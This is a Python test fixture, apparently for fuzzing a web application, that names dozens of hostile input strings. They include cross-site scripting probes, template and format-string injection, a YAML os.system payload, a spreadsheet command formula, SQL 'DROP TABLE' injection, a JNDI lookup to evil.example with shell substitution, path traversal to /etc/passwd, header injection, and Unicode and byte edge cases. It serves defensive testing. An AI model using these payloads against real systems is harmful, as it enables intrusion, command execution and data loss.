"""The one table of hostile texts: each has a name, so that a failure says which one it was."""

from __future__ import annotations

import os

HOSTILE: dict[str, str] = {
    # The page
    "a script": "<script>alert(1)</script>",
    "out of an attribute": "\"><img src=x onerror=alert(1)> ' onmouseover='alert(1)",
    "out of a text box": "</textarea></title></style></script><marquee>bold",
    "out of a list": "</option></select></li></ul></fieldset></form><form action=//evil.example>",
    "a comment": "<!-- --> <!-- <![CDATA[ ]]> <?php ?> <!doctype html>",
    "entities": "&lt;b&gt; &amp;amp; &#x3c;i&#62; &nbsp; &notin &",
    "a script link": "javascript:alert(1) data:text/html,<script>alert(1)</script> vbscript:x",
    "a link": "https://evil.example/?q=1&amp=2 //evil.example \\\\evil.example",
    # Our own tools
    "template tags": "{{ 7*7 }} {% load x %} {% csrf_token %} {# no #} {{ request }} {%",
    "format strings": "{0} {n} {who!r} {0.__class__} %s %(x)d %n %% $name ${x}",
    "reading a file": '#read("/etc/passwd") #eval("1") #import "@preview/x:1.0.0" #panic()',
    "markup": "*bold* _slanted_ `raw` ```raw``` $x^2$ $ <label> @ref ~ // /* */ \\ \\u{41} #",
    "a heading": "= Heading == - item + item / term: x",
    "yaml": "- yes: no # &a *a !!python/object/apply:os.system ['id'] | > ? : --- ...",
    # Other people's tools
    "a formula": "=cmd|' /C calc'!A0",
    "a formula with a plus": "+1+1 @SUM(1) -2",
    "sql": "'; DROP TABLE bank_question; -- \" OR 1=1 /* */ \\' %27",
    "a lookup": "${jndi:ldap://evil.example/a} $(id) `id` ; id | id && id",
    "a path": "../../../../etc/passwd ..\\..\\ /dev/null CON C:\\ %2e%2e%2f",
    "headers": "x\r\nSet-Cookie: answers=evil\r\n\r\n<marquee>body",
    "header words": "x; secure, y=\"z\"; charset=utf-7, filename*=UTF-8''evil",
    # Letters
    "turned round": "\u202eevil\u202c \u202dleft \u2066lone \u2067isolate \u2068first \u061c\u200f",
    "no width": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u034fh\u180ei",
    "stacked accents": "Z" + "\u0300\u0301\u0302\u0303\u0316\u0317\u0323\u0336" * 8 + "algo",
    "smileys": "😀 👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇸 👍🏽 1️⃣",
    "four bytes": "𝕳𝖊𝖑𝖑𝖔 𠜎𠜱 𓀀 \U000e0041\U000e007f \U0010fffd",
    "right to left": "ألم شديد כאב كيتامين",
    "other scripts": "痛み 통증 ปวด दर्द боль πόνος",
    "wide and joined letters": "ﷺ ﷽ ＜script＞ ﬁ ǆ İ ı ſ K ß",
    "not letters": "\ufffe\uffff\ufdd0 \ue000 \ufffd \ufff9\ufffa\ufffb",
    "line separators": "one\ntwo\r\n\tthree\rfour\x0bfive\x0csix\x85seven\u2028eight\u2029nine",
    "spaces alone": " \u00a0\u2003\u3000\u200b\t ",
    "control letters": "".join(map(chr, range(1, 32)))
    + "\x7f"
    + "".join(map(chr, range(128, 160))),
    "nul": "before\x00after",
    "one long word": "x" * 2_000,
    "one long thread of accents": "e" + "\u0301" * 1_000,
    # Words that are something else elsewhere
    "nothing": "",
    "a word of code": "null",
    "a truth": "true",
    "a number": "-1e309",
    "an own name": "__proto__",
}

# What cannot be told in letters: bytes as they can stand in a form, a query or a file.
BYTES: dict[str, bytes] = {
    "half a letter": b"\xff\xfe\xc3",
    "a lone surrogate": b"\xed\xa0\x80",
    "too long for its letter": b"\xc0\xaf\xe0\x80\xaf",
    "beyond the last letter": b"\xf4\x90\x80\x80",
    "another alphabet": "Schmerz für Ängstliche".encode("latin-1"),
    "two bytes a letter": "pain".encode("utf-16"),
}

# `make fuzz` sends all of them everywhere; the tests send a few where each takes its time.
ALL_OF_IT = int(os.environ.get("N", "0")) > 2_000
FEW = HOSTILE if ALL_OF_IT else {name: HOSTILE[name] for name in list(HOSTILE)[::5]}
